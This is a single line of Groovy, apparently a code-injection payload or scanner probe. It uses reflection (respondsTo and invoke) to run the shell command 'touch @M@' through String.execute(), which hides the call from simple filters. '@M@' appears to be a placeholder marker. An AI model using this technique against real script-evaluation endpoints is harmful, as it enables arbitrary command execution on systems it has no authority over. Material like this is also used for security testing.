'touch @M@'.respondsTo('execute')[0].invoke('touch @M@', new Object[0])
